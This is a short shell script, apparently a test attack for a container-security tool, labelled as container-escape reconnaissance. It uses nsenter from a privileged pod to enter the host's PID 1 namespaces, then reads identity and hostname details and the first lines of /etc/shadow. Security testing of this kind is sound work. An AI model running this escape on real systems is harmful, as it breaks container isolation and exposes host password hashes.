#!/bin/sh
# shrike-test-attack: container-escape-recon: nsenter into host PID 1 namespaces from a privileged pod
nsenter -t 1 -m -u -i -n -p -- /bin/bash -c 'id; hostname; cat /etc/shadow | head -3'
